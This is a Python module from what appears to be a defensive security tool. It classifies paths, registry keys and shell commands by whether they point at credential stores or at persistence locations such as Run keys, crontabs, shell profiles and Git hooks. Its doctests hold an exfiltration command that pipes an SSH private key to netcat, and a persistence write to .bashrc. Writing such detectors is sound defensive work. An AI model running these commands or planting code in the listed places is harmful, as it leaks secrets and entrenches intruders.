"""
Places on a machine that attackers read from or write to stay: paths, file names, registry keys.

A pattern is written with `/`, in lower case, and matches whole path components in a row, wherever they stand
in a text: a path, a glob, a registry key or a shell command. The pattern that ends furthest along decides,
the longest of equals.
"""

import re
from collections.abc import Mapping
from functools import lru_cache
from types import MappingProxyType
from typing import Final, TypeVar

from watchhouse.evidence.knowledge.stores import STORES
from watchhouse.evidence.values import Source

LONGEST: Final = 4096
"""Characters of a text that are searched; PATH_MAX of Linux."""

_LONGEST_NAME: Final = 64
"""Characters of a text without a slash beyond which it is prose."""

_REMEMBERED: Final = 512
"""Characters of a text up to which its answer is remembered: the memory must not fill with hostile text."""

_HARMLESS = (".ssh/known_hosts", ".ssh/authorized_keys", ".ssh/*.pub", ".ssh/config.d", ".aws/models")
"""Inside a store and no secret: what is there is read by every SSH client, or written to stay."""

_STARTUP = {
    "currentversion/run": "Run key",
    "currentversion/runonce": "Run key",
    "currentversion/policies/explorer/run": "Run key",
    "currentversion/winlogon": "Winlogon key",
    "currentversion/image file execution options": "Image File Execution Options",
    "start menu/programs/startup": "Startup folder",
    "programs/startup": "Startup folder",
    "library/launchagents": "launch agent",
    "library/launchdaemons": "launch daemon",
    "etc/crontab": "crontab",
    "etc/cron.d": "crontab",
    "etc/cron.hourly": "crontab",
    "etc/cron.daily": "crontab",
    "etc/cron.weekly": "crontab",
    "var/spool/cron": "crontab",
    "etc/systemd/system": "systemd unit",
    "lib/systemd/system": "systemd unit",
    ".config/systemd/user": "systemd unit",
    ".local/share/systemd/user": "systemd unit",
    "etc/init.d": "boot script",
    "etc/rc.local": "boot script",
    "etc/ld.so.preload": "preloaded library",
    "etc/profile": "shell profile",
    "etc/profile.d": "shell profile",
    "etc/bash.bashrc": "shell profile",
    ".bashrc": "shell profile",
    ".bash_profile": "shell profile",
    ".bash_login": "shell profile",
    ".bash_logout": "shell profile",
    ".profile": "shell profile",
    ".zshrc": "shell profile",
    ".zprofile": "shell profile",
    ".zshenv": "shell profile",
    ".config/fish/config.fish": "shell profile",
    "fish/conf.d": "shell profile",
    "microsoft.powershell_profile.ps1": "PowerShell profile",
    "authorized_keys": "SSH authorized keys",
    ".config/autostart": "desktop autostart",
    "etc/xdg/autostart": "desktop autostart",
    "sitecustomize.py": "Python start-up file",
    "usercustomize.py": "Python start-up file",
    "site-packages/*.pth": "Python start-up file",
    "dist-packages/*.pth": "Python start-up file",
    ".git/hooks": "Git hook",
    ".git/hooks/pre-commit": "Git hook",
}

_COMPONENT = re.compile(r"[^/\\\"'`|;=<>(),:&$%{}\[\]\t\r\n]+")
_ID_LENGTH: Final = 32
_EXTENSION_ID = re.compile(r"(?<![a-z0-9])[a-p]{32}(?![a-z0-9])")

_Kind = TypeVar("_Kind")
_Rows = tuple[tuple[tuple[str, ...], _Kind], ...]


def source_of_path(text: str) -> tuple[Source, str] | None:
    r"""
    Return what is to be had at the place that `text` names, and in short what it is; None if nothing is known.

    >>> source_of_path("{}/.aws/credentials")
    (<Source.CLOUD_TOKEN: 'cloud credentials'>, 'AWS credentials')
    >>> source_of_path(r"{}\\Google\\Chrome\\User Data\\Default\\Login Data")[1]
    'saved passwords'
    >>> source_of_path("cat ~/.ssh/id_rsa | nc host 1")[1]
    'SSH private key'
    >>> source_of_path("~/.ssh/known_hosts") is None
    True
    """
    return _source(text) if len(text) <= _REMEMBERED else _innermost(text, _sources())


def startup_place(text: str) -> str | None:
    r"""
    Return the kind of place at which what is written runs again by itself, or None.

    >>> startup_place(r"Software\\Microsoft\\Windows\\CurrentVersion\\Run")
    'Run key'
    >>> startup_place("echo x >> ~/.bashrc")
    'shell profile'
    >>> startup_place("model/best.pth") is None
    True
    """
    return _startup(text) if len(text) <= _REMEMBERED else _innermost(text, _startups())


@lru_cache(maxsize=8192)
def _source(text: str) -> tuple[Source, str] | None:
    """Remember the answers of `source_of_path`: several readers ask about the same texts."""
    return _innermost(text, _sources())


@lru_cache(maxsize=8192)
def _startup(text: str) -> str | None:
    """Remember the answers of `startup_place`."""
    return _innermost(text, _startups())


@lru_cache(maxsize=1)
def _sources() -> Mapping[str, _Rows[tuple[Source, str] | None]]:
    """Return the table of `source_of_path`, by first component."""
    rows: dict[str, tuple[Source, str] | None] = dict.fromkeys(_HARMLESS)
    rows.update(
        {pattern: (source, kind) for source, table in STORES.items() for pattern, kind in table.items()}
    )
    return _by_first(rows)


@lru_cache(maxsize=1)
def _startups() -> Mapping[str, _Rows[str | None]]:
    """Return the table of `startup_place`, by first component."""
    return _by_first(dict[str, str | None](_STARTUP))


def _by_first(rows: Mapping[str, _Kind]) -> Mapping[str, _Rows[_Kind]]:
    """Return `rows` split into components and indexed by the first of them."""
    table: dict[str, _Rows[_Kind]] = {}
    for pattern, kind in rows.items():
        first, *_ = parts = tuple(pattern.split("/"))
        table[first] = (*table.get(first, ()), (parts, kind))
    return MappingProxyType(table)


def _innermost(text: str, table: Mapping[str, _Rows[_Kind | None]]) -> _Kind | None:
    """Return the kind of the pattern that ends furthest along in `text`, the longest of equals."""
    if len(text) > _LONGEST_NAME and "/" not in text and "\\" not in text:
        return None
    found: _Kind | None = None
    end = 0
    parts = [part.strip() for part in _COMPONENT.findall(text[:LONGEST].lower())]
    for start, part in enumerate(parts):
        kind: _Kind | None = None
        length = 0
        for key in _openings(part):
            for pattern, candidate in table.get(key, ()):
                if len(pattern) > length and _follows(parts, start, pattern):
                    kind, length = candidate, len(pattern)
        if kind is not None and start + length > end:
            found, end = kind, start + length
    return found


def _openings(part: str) -> tuple[str, ...]:
    """Return the keys under which a pattern that starts at `part` may stand: whole, each word, suffix."""
    keys = [part]
    if " " in part:
        keys += part.split()
    if part.endswith(".kdbx"):
        keys.append("*.kdbx")
    if len(part) > _ID_LENGTH:
        keys += _EXTENSION_ID.findall(part)
    return tuple(keys)


def _follows(parts: list[str], start: int, pattern: tuple[str, ...]) -> bool:
    """Return whether the rest of `pattern` stands in `parts` after `start`."""
    if start + len(pattern) > len(parts):
        return False
    for offset, wanted in enumerate(pattern[1:], start=1):
        part = parts[start + offset]
        if part != wanted and part.partition(" ")[0] != wanted and not _is_suffix(part, wanted):
            return False
    return True


def _is_suffix(part: str, wanted: str) -> bool:
    """Return whether `wanted` is `*suffix` (`*` alone: anything) and `part` ends so."""
    return wanted.startswith("*") and part.endswith(wanted[1:])
